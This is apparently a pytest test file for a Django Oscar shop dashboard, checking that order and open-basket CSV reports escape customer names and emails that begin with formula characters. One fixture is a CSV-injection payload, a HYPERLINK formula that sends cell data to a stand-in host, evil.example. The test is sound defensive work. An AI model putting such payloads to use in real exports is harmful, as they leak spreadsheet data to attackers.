"""The dashboard's order report CSV is formula-safe: a customer's email or name that starts
with ``=``, ``+``, ``-`` or ``@`` comes out as text (a leading quote), never as a formula a
spreadsheet evaluates; amounts stay numbers."""

import csv

import pytest
from django.urls import reverse
from oscar.core.loading import get_model

from tests.factories import UserFactory

from .conftest import marketplace_order

pytestmark = pytest.mark.django_db

Order = get_model("order", "Order")

GUEST_EMAIL = '=HYPERLINK("https://evil.example/?d="&A1,"Refund")'


def report_rows(client) -> list[list[str]]:
    client.force_login(UserFactory(username="ops", is_staff=True, is_superuser=True))
    url = reverse("dashboard:reports-index") + "?report_type=order_report&download=true"
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(response.content.decode("utf-8-sig").splitlines()))


def test_a_guest_email_starting_with_a_formula_is_written_as_text(client, merchants):
    guest = marketplace_order([(merchants["tokyo"], "28.61", 1)], currency="GBP", paid=False)
    Order.objects.filter(pk=guest.pk).update(guest_email=GUEST_EMAIL)

    rows = {row[0]: row for row in report_rows(client)}

    assert rows[str(guest.number)][1:5] == ["-", "'" + GUEST_EMAIL, "28.61", "GBP"]
    assert ["Total", "", "", "28.61", "GBP", ""] in rows.values()


def test_a_customers_name_and_email_starting_with_formula_characters_are_written_as_text(
    client, merchants
):
    shopper = UserFactory(
        username="shopper", first_name="@SUM(A1:A9)", last_name="Lee", email="+1@example.com"
    )
    order = marketplace_order(
        [(merchants["brooklyn"], "35.00", 2)], currency="USD", user=shopper, paid=False
    )

    row = next(row for row in report_rows(client) if row[0] == str(order.number))

    assert row[1:5] == ["'@SUM(A1:A9) Lee", "'+1@example.com", "70.00", "USD"]


def test_every_oscar_report_is_formula_safe_an_open_basket_owners_name(client):
    # Oscar's other reports load the forked ReportCSVFormatter (commerce.dashboard.reports).
    from oscar.core.loading import get_model

    owner = UserFactory(username="basket-owner", first_name="=1+2", last_name="Cmd")
    get_model("basket", "Basket").objects.create(owner=owner)
    client.force_login(UserFactory(username="ops", is_staff=True, is_superuser=True))
    url = reverse("dashboard:reports-index") + "?report_type=open_baskets&download=true"
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
    [row] = [row for row in rows[1:] if row[0] == str(owner.pk)]
    assert row[1:3] == ["'=1+2 Cmd", owner.email]
